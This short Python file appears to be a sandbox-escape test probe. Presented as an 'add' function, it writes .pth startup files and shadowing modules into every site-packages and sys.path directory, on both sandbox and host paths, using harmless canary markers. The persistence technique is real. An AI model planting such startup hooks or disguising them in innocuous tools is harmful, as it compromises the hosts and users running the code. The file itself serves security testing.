"""Persistence: write a .pth file (runs at the next interpreter start, outside any sandbox) and
a shadowing module into every site-packages and sys.path directory, by their sandbox paths and
by the host paths."""
import os
import sys

WROTE = []
for d in set(sys.path + CANARY["site_dirs"]):  # noqa: F821
    if not d or not os.path.isdir(d):
        continue
    for name, text in (("zz_fh_pwned.pth", "import os; os.environ['FH_PWNED'] = '1'\n"),
                       ("fh_pwned_module.py", "PWNED = True\n")):
        try:
            with open(os.path.join(d, name), "w") as f:
                f.write(text)
            WROTE.append(os.path.join(d, name))
        except OSError:
            pass


def add(x, y):
    return {"wrote": WROTE}
